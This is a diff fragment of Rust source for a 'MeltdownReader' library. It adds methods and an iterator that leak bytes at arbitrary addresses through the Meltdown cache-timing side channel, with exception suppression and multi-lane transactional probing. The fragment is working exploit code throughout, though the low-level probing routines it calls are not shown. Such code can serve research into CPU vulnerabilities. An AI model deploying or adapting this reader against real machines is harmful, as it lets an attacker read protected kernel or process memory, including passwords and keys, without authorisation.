+            }
+            result.push(ByteProfile {
+                guess,
+                samples: times[0].len(),
+                timing: LatencyStats::from_samples(&mut times[0]),
+            })
+        }
+        result
+    }
+
+    /// Leaks `len` bytes starting at `addr` lazily, yielding each byte's
+    /// address, value and confidence as soon as it is leaked, so a caller can
+    /// stop early, e.g. at the end of a string, without paying for the rest.
+    pub fn iter_range(&self, addr: *const u8, len: usize) -> RangeIter<S> {
+        RangeIter {
+            reader: self,
+            addr,
+            len,
+            done: 0,
+            lanes: [UNKNOWN; MAX_LANES],
+            lane_count: 0,
+            next_lane: 0,
+        }
+    }
+
+    /// Leaks the byte at `addr`, or `None` if no probe was fast enough to be a
+    /// cache hit.
+    pub fn read_byte(&self, addr: *const u8) -> Option<u8> {
+        self.guess_byte(addr).value
+    }
+
+    /// Leaks `len` bytes starting at `addr`.
+    pub fn read_range(&self, addr: *const u8, len: usize) -> Vec<Option<u8>> {
+        let mut result = vec![None; len];
+        self.read_into(addr, &mut result);
+        result
+    }
+
+    /// Leaks `buf.len()` bytes starting at `addr` into `buf`.
+    pub fn read_into(&self, addr: *const u8, buf: &mut [Option<u8>]) {
+        let len = buf.len();
+        for (byte, guess) in buf.iter_mut().zip(self.guess_range(addr, len)) {
+            *byte = guess.value
+        }
+    }
+}
+
+/// An iterator over the bytes of a range, leaking each as it is reached,
+/// returned by `MeltdownReader::iter_range`.
+pub struct RangeIter<'a, S: ExceptionSuppressor + 'a> {
+    reader: &'a MeltdownReader<S>,
+    addr: *const u8,
+    len: usize,
+    // how many bytes have been yielded
+    done: usize,
+    // the bytes leaked together by the last transaction, of which the first
+    // next_lane have been yielded
+    lanes: [ByteGuess; MAX_LANES],
+    lane_count: usize,
+    next_lane: usize,
+}
+
+impl<'a, S: ExceptionSuppressor> RangeIter<'a, S> {
+    // the next byte's address and guess, leaking it and the bytes after it
+    // that the same transaction can leak if it wasn't leaked with the last
+    fn next_guess(&mut self) -> Option<(*const u8, ByteGuess)> {
+        if self.done == self.len {
+            return None;
+        }
+        if self.next_lane == self.lane_count {
+            let lanes = if self.reader.dual_probe { MAX_LANES } else { 1 };
+            self.lane_count = min(lanes, self.len - self.done);
+            self.lanes = self.reader
+                .guess_lanes(self.addr.wrapping_add(self.done), self.lane_count);
+            self.next_lane = 0;
+        }
+        let addr = self.addr.wrapping_add(self.done);
+        let guess = self.reader.retry_byte(addr, self.lanes[self.next_lane]);
+        self.next_lane += 1;
+        self.done += 1;
+        Some((addr, guess))
+    }
+}
+
+impl<'a, S: ExceptionSuppressor> Iterator for RangeIter<'a, S> {
+    /// The address of a byte, its value, or None if it didn't leak, and the
+    /// confidence in it.
+    type Item = (*const u8, Option<u8>, f64);
+
+    fn next(&mut self) -> Option<(*const u8, Option<u8>, f64)> {
+        self.next_guess()
+            .map(|(addr, guess)| (addr, guess.value, guess.confidence()))
+    }
+
+    fn size_hint(&self) -> (usize, Option<usize>) {
+        let left = self.len - self.done;
+        (left, Some(left))
+    }
+}